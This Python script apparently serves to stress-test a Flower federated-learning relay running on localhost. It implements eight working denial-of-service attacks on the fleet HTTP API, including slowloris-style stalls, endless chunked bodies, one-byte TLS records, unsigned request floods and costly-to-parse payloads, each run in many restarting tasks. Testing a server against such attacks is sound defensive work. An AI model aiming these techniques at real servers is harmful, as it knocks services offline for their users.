"""A stranger, or a site that is admitted and hostile: `python attackers.py KIND PORT FOLDER COUNT`.

FOLDER has what a site's relay has; a stranger uses none of it. Runs until it is killed. What fails
is begun again: an attacker does not care.
"""

import asyncio
import base64
import socket
import ssl
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

PIECE = 1 << 22
CHUNK = b"%x\r\n" % (1 << 20) + bytes(1 << 20) + b"\r\n"


class Target:
    """The port, and what the attacker has of a site."""

    def __init__(self, port: int, folder: Path) -> None:
        self.port = port
        certificate = x509.load_pem_x509_certificate((folder / "certificate.pem").read_bytes())
        public = certificate.public_key().public_bytes(
            Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
        )
        self._key = b"flwr-public-key: " + base64.b64encode(public)
        self.context = ssl.create_default_context(cafile=str(folder / "server-ca.pem"))
        self.context.load_cert_chain(folder / "certificate.pem", folder / "key.pem")

    async def plain(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection("127.0.0.1", self.port)

    async def secure(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(
            "127.0.0.1", self.port, ssl=self.context, server_hostname="127.0.0.1"
        )

    def header(self, name: str, *lines: bytes) -> bytes:
        first = f"POST /v1/fleet/{name} HTTP/1.1".encode()
        protobuf = b"content-type: application/protobuf"
        return b"\r\n".join((first, b"host: x", protobuf, self._key, *lines)) + b"\r\n\r\n"


async def silent(target: Target) -> None:
    """Says nothing."""
    reader, _ = await target.plain()
    await reader.read(1)


async def hello(target: Target) -> None:
    """Begins a handshake, and does not go on."""
    reader, writer = await target.plain()
    outgoing = ssl.MemoryBIO()
    made = target.context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="127.0.0.1")
    with suppress(ssl.SSLWantReadError):
        made.do_handshake()
    writer.write(outgoing.read())
    while await reader.read(1 << 16):
        pass


async def chunked(target: Target) -> None:
    """Announces ten bytes and sends chunks without an end."""
    _, writer = await target.secure()
    lines = b"content-length: 10", b"transfer-encoding: chunked"
    writer.write(target.header("push-object", *lines))
    while True:
        writer.write(CHUNK)
        await writer.drain()


async def stalled(target: Target) -> None:
    """Sends nearly all of a body."""
    reader, writer = await target.secure()
    writer.write(target.header("push-object", b"content-length: %d" % PIECE) + bytes(PIECE - 1))
    await reader.read(1)


async def crumbs(target: Target) -> None:
    """Sends a body in TLS records of one byte."""
    _, writer = await target.secure()
    writer.write(target.header("push-object", b"content-length: %d" % PIECE))
    while True:
        for _ in range(1000):
            writer.write(b"a")
        await writer.drain()


async def unsigned(target: Target) -> None:
    """Connects again and again without a signature, so that Flower refuses it."""
    reader, writer = await target.secure()
    while True:
        writer.write(target.header("activate-node", b"content-length: 0"))
        if not await reader.read(1 << 16):
            return


async def large(target: Target) -> None:
    """Sends pieces that belong to nothing, without a signature."""
    reader, writer = await target.secure()
    while True:
        writer.write(target.header("push-object", b"content-length: %d" % PIECE) + bytes(PIECE))
        if not await reader.read(1 << 16):
            return


async def nested(target: Target) -> None:
    """Sends what costs most to parse: as many parts as fit."""
    reader, writer = await target.secure()
    body = b"\x1a\x00" * (1 << 15)
    while True:
        writer.write(target.header("push-messages", b"content-length: %d" % len(body)) + body)
        if not await reader.read(1 << 16):
            return


KINDS = (silent, hello, chunked, stalled, crumbs, unsigned, large, nested)


async def attack(kind: Callable[[Target], Awaitable[None]], target: Target, count: int) -> None:
    async def again_and_again() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                await kind(target)
            await asyncio.sleep(0.05)

    attackers = []
    for _ in range(count):
        attackers.append(asyncio.create_task(again_and_again()))
        await asyncio.sleep(0)
    await asyncio.gather(*attackers)


if __name__ == "__main__":
    import resource

    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    socket.setdefaulttimeout(None)
    chosen = {kind.__name__: kind for kind in KINDS}[sys.argv[1]]
    asyncio.run(attack(chosen, Target(int(sys.argv[2]), Path(sys.argv[3])), int(sys.argv[4])))
